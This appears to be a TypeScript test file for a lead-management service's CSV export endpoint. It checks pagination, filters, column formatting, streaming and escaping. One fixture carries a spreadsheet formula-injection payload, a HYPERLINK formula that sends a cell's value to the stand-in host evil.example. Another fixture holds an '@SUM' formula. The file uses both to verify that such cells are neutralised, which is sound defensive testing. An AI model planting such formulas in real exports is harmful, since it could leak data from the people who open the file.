/**
 * `GET /api/leads.csv`: the leads `GET /api/leads` finds with the same filters, every page, as a
 * formula-safe CSV file, streamed a page at a time.
 */
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { CSV_PAGE_SIZE, leadsCsvStream } from '../../src/http/routes/leads-csv.js';
import { toLeadQuery } from '../../src/http/routes/leads.js';
import type { Store } from '../../src/storage/port.js';
import { createSource, startTestServer, TEST_ADMIN_TOKEN, type TestServer } from '../helpers/server.js';
import { parseCsv } from '../helpers/csv.js';

const COLUMNS = 'id,name,phone,email,provider,sourceId,sourceName,stage,providerStatus,assignee,firstSeenAt,lastEventAt';

describe('GET /api/leads.csv', () => {
  let t: TestServer;
  let praetorian: any;
  let anarock: any;

  const csv = async (query: string) => {
    const res = await fetch(`${t.url}/api/leads.csv${query}`, { headers: { authorization: `Bearer ${TEST_ADMIN_TOKEN}` } });
    return { res, text: await res.text() };
  };
  /** Ids of every lead GET /api/leads lists for `query`, all pages. */
  const listed = async (query: string): Promise<string[]> => {
    const ids: string[] = [];
    let cursor: string | null = null;
    do {
      const sep = query === '' ? '?' : '&';
      const page: any = (await t.api('GET', `/api/leads${query}${cursor === null ? '' : `${sep}cursor=${cursor}`}`)).json;
      ids.push(...page.items.map((l: { id: string }) => l.id));
      cursor = page.nextCursor;
    } while (cursor !== null);
    return ids;
  };

  before(async () => {
    t = await startTestServer();
    praetorian = await createSource(t, 'praetorian', { name: 'Lexipol, "West"' });
    anarock = await createSource(t, 'anarock');
    // More leads than one page of the export, in two webhooks.
    for (const batch of [0, 1]) {
      const items = Array.from({ length: 330 }, (_, i) => ({ id: `led_csv_${batch}_${i}`, data: { first_name: 'Csv', last_name: `Person ${batch}-${i}`, phone: '+1 415 555 2671' } }));
      assert.equal((await t.hook(praetorian.webhookPath, items, { authorization: praetorian.secret })).status, 200);
    }
    const hostile = [{ id: 'led_csv_formula', data: { first_name: '=HYPERLINK("http://evil.example/?"&A1,"click")', last_name: '', email: 'a@example.com', phone: '@SUM(1+1)' } }];
    assert.equal((await t.hook(praetorian.webhookPath, hostile, { authorization: praetorian.secret })).status, 200);
    const test = [{ id: 'led_csv_test', production: false, data: { first_name: 'Csv', last_name: 'Tester' } }];
    assert.equal((await t.hook(praetorian.webhookPath, test, { authorization: praetorian.secret })).status, 200);
    const snapshot = { lead_id: 990_001, name: 'Csv Anarock', phone: '9820012345', lead_status: 'Interested', agent_name: 'Ravi Agent' };
    assert.equal((await t.hook(anarock.webhookPath, snapshot, {})).status, 200);
  });
  after(async () => t.close());

  it('answers a CSV download named for today, with the columns of the contract', async () => {
    const { res, text } = await csv('');
    assert.equal(res.status, 200);
    assert.equal(res.headers.get('content-type'), 'text/csv; charset=utf-8');
    assert.match(String(res.headers.get('content-disposition')), /^attachment; filename="leads-\d{4}-\d{2}-\d{2}\.csv"$/);
    assert.equal(text.slice(0, text.indexOf('\r\n')), COLUMNS);
  });

  it('holds every lead GET /api/leads lists, in its order, across more than one page', async () => {
    const ids = await listed('');
    assert.ok(ids.length > CSV_PAGE_SIZE, `more than a page: ${ids.length}`);
    const records = parseCsv((await csv('')).text).slice(1);
    assert.deepEqual(records.map((r) => r[0]), ids);
  });

  it('takes the same filters as GET /api/leads: provider, source, stage, search, test leads, dates', async () => {
    const today = new Date().toISOString().slice(0, 10);
    for (const query of [`?provider=anarock`, `?sourceId=${praetorian.id}&q=person 1-3`, '?stage=qualified', '?isTest=true', '?isTest=all&q=csv', `?firstSeenSince=${today}&phone=4155552671`, '?firstSeenUntil=2000-01-01']) {
      const records = parseCsv((await csv(query)).text).slice(1);
      assert.deepEqual(records.map((r) => r[0]), await listed(query), query);
    }
    const bad = await csv('?stage=nope');
    assert.equal(bad.res.status, 400);
    assert.equal(JSON.parse(bad.text).error.code, 'LH_E_VALIDATION');
    for (const paging of ['?cursor=x', '?limit=5']) assert.equal((await csv(paging)).res.status, 400, paging);
  });

  it('writes each lead as the contract says: name, phone, e-mail, source name, stage, provider status, assignee, times', async () => {
    const records = parseCsv((await csv('?provider=anarock')).text);
    const lead = (await t.api('GET', '/api/leads?provider=anarock')).json.items[0];
    assert.deepEqual(records[1], [lead.id, 'Csv Anarock', "'+919820012345", '', 'anarock', anarock.id, 'anarock test', lead.stage, 'Interested', 'Ravi Agent', lead.firstSeenAt, lead.lastEventAt]);
    const quoted = parseCsv((await csv('?q=person 0-1&isTest=false')).text).slice(1);
    assert.ok(quoted.length > 0 && quoted.every((r) => r[6] === 'Lexipol, "West"'), 'a source name with a comma and quotes is one cell');
  });

  it('prefixes cells a spreadsheet would run as formulas with a quote', async () => {
    const { text } = await csv('?q=evil.example');
    assert.ok(text.includes('"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")"'), text);
    const [, record] = parseCsv(text);
    assert.equal(record?.[1], `'=HYPERLINK("http://evil.example/?"&A1,"click")`);
    assert.equal(record?.[2], "'@SUM(1+1)");
  });

  it('reads the next page from the store only once the consumer has taken what was sent', async () => {
    const store = t.server.store;
    let reads = 0;
    const counting: Pick<Store, 'listLeads' | 'getSource'> = {
      listLeads: async (query) => {
        reads++;
        return store.listLeads({ ...query, limit: 50 });
      },
      getSource: (id) => store.getSource(id),
    };
    const query = { ...toLeadQuery({}, 'UTC'), limit: 50 };
    const stream = leadsCsvStream(counting, query, await counting.listLeads(query), 1);
    const pages = Math.ceil((await listed('')).length / 50);
    let chunks = 0;
    for await (const _chunk of stream) {
      chunks++;
      // The first page is read before answering; each later one when the consumer took the one before (one ahead at most).
      assert.ok(reads <= chunks + 1, `${reads} reads after ${chunks} chunks`);
    }
    assert.equal(reads, pages);
  });
});
